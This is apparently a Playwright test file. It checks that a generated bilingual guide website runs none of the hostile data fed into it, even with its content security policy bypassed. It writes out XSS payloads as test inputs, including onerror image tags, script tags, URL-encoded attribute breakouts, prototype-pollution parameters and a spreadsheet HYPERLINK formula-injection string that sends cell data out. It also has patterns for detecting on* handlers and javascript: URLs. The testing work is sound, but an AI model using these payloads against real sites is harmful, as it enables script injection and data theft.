"""A real browser on the hostile guide: nothing in its data runs, even where the browser is told to let everything run."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from ..conftest import run_guide
from ..hostile import ALL, ATTACKS, hostile_guide
from .conftest import serve

SHOWN = {identity.replace(" ", "-"): " ".join(text.split()) for identity, text in ATTACKS.items()}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root, _ = hostile_guide(tmp_path_factory.mktemp("hostile") / "guide")
    result = run_guide(root, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    yield from serve(root / "site")


@pytest.fixture
def harmless(browser: Browser) -> Iterator[Page]:
    """A page whose policy is switched off: what the templates do not make harmless would run here, and fail the test."""
    context = browser.new_context(viewport={"width": 360, "height": 740}, bypass_csp=True, reduced_motion="reduce")
    faults: list[str] = []
    context.add_init_script("addEventListener('securitypolicyviolation', () => { window.harmed = 'policy' })")
    page = context.new_page()
    page.on("dialog", lambda dialog: (faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda message: faults.append(f"console: {message.text}") if message.type == "error" else None)
    page.on("pageerror", lambda error: faults.append(f"script: {error}"))
    page.on("request", lambda request: faults.append(f"asked: {request.url}") if urlsplit(request.url).hostname != "127.0.0.1" or urlsplit(request.url).path.endswith("/x") else None)
    yield page
    context.close()
    assert faults == []


def is_harmless(page: Page) -> None:
    """Nothing ran, and no element is there that no template wrote; every element has been pointed at and focused."""
    page.evaluate("""() => { for (const element of document.querySelectorAll('*')) {
        for (const kind of ['mouseover', 'focus', 'error', 'load']) element.dispatchEvent(new Event(kind)) } }""")
    found = page.evaluate("""() => ({
        harmed: window.harmed ?? null,
        marks: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || /^\\s*(javascript|data|vbscript):/i.test(a.value))).map(e => e.outerHTML.slice(0, 200)),
        strange: [...document.querySelectorAll('img, iframe, object, embed, b, svg[onload], script:not([src]):not([type="application/ld+json"])')].map(e => e.outerHTML.slice(0, 200)),
    })""")
    assert found == {"harmed": None, "marks": [], "strange": []}, page.url


def test_an_attack_would_be_seen(harmless: Page, hostile: str) -> None:
    """Without this, the policy alone could hide a hole."""
    harmless.goto(f"{hostile}/programs/questa.html")
    harmless.evaluate("""() => { document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.harmed=1"><b onmouseover="window.harmed=2">x</b>') }""")
    harmless.wait_for_function("window.harmed === 1")
    with pytest.raises(AssertionError):
        is_harmless(harmless)


@pytest.mark.parametrize("tag", ["en", "es"])
def test_town_need_crisis_and_written_pages(harmless: Page, hostile: str, tag: str) -> None:
    top = hostile if tag == "en" else f"{hostile}/es"
    for path in ("programs/taos.html", "programs/need/medicaid.html", "crisis.html", "glossary.html", "about.html", "data.html", "index.html", "sheet.html", "print.html", "save.html"):
        harmless.goto(f"{top}/{path}")
        is_harmless(harmless)
    harmless.goto(f"{top}/programs/taos.html")
    for identity, text in SHOWN.items():
        card = harmless.locator(f"#x-{identity}")
        assert text in " ".join(card.inner_text().split()), identity
    for menu in harmless.locator(".acts > summary").all()[:3]:
        menu.click()
    is_harmless(harmless)
    harmless.goto(f"{top}/about.html")
    main = " ".join(harmless.locator("main").inner_text().split())
    assert main.count(" ".join(ALL.split())) >= 6


@pytest.mark.parametrize("tag", ["en", "es"])
def test_filters(harmless: Page, hostile: str, tag: str) -> None:
    harmless.goto(f"{hostile if tag == 'en' else f'{hostile}/es'}/programs/index.html")
    for details in harmless.locator("main details").all():
        details.evaluate("element => { element.open = true }")
    for box in harmless.locator("main input[type=checkbox]").all()[:12]:
        box.evaluate("element => element.click()")
    is_harmless(harmless)
    for path in ("#from=<script>window.harmed=1</script>", "#payment=%22%3E%3Cimg%20src%3Dx%20onerror%3D%22window.harmed%3D2%22%3E", "#__proto__=x&constructor=y"):
        harmless.goto("about:blank")
        harmless.goto(f"{hostile if tag == 'en' else f'{hostile}/es'}/programs/index.html{path}")
        is_harmless(harmless)


@pytest.mark.parametrize("tag", ["en", "es"])
def test_search_and_the_town_box(harmless: Page, hostile: str, tag: str) -> None:
    top = hostile if tag == "en" else f"{hostile}/es"
    for typed in ("hyperlink", "harmed", "<img src=x onerror=window.harmed=1>", "passwd", '"];window.harmed=1//'):
        harmless.goto(f"{top}/search.html")
        harmless.locator("main input[type=search], main input[type=text]").first.fill(typed)
        harmless.keyboard.press("Enter")
        expect(harmless.locator(".search-count")).to_have_text(re.compile(r"\d+ res|[“«]"))  # how many were found, or that nothing was
        is_harmless(harmless)
        if typed == "hyperlink":
            expect(harmless.locator("main")).to_contain_text('=HYPERLINK("http://example.org?"&A1,"x")')
    harmless.goto(f"{top}/index.html")
    box = harmless.locator("main input").first
    box.fill("script")
    harmless.keyboard.press("ArrowDown")
    is_harmless(harmless)
    box.fill("<u onclick=zzzz>")  # no place begins so: the page stays, and answers
    harmless.keyboard.press("Enter")
    expect(harmless.locator("main [role=status]").filter(has_text=re.compile(r"\S")).first).to_be_visible()
    is_harmless(harmless)


def test_the_address_of_a_page_writes_nothing(harmless: Page, hostile: str) -> None:
    """Whoever makes a link to this guide can write nothing into its pages."""
    text = "<img src=x onerror=window.harmed=1>"
    for path in (f"search.html?q={text}", f"search.html#q={text}", f"sheet.html?{text}", f"sheet.html#{text}", f"sheet.html#s=town-taos&d={text}", f"index.html?place={text}", f"programs/taos.html#{text}"):
        harmless.goto("about:blank")
        harmless.goto(f"{hostile}/{path}")
        harmless.wait_for_load_state("networkidle")
        is_harmless(harmless)


def test_links_of_listings_lead_to_web_pages_numbers_and_mail(harmless: Page, hostile: str) -> None:
    for path in ("programs/taos.html", "programs/index.html", "about.html"):
        harmless.goto(f"{hostile}/{path}")
        for address in harmless.locator("a").evaluate_all("links => links.map(link => link.protocol)"):
            assert re.fullmatch(r"https?:|tel:|sms:|mailto:", address), (path, address)


